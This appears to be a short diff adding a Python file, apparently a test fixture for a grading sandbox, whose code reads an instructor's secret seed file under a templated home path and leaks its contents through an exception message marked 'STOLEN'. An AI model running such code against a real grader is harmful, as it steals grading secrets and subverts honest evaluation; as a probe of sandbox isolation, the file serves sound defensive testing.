@@ -1,0 +1,2 @@
+"""Opens the instructor's secret seed."""
+raise RuntimeError("STO" "LEN " + open("@HOME@/.config/attngrade/seed").read())
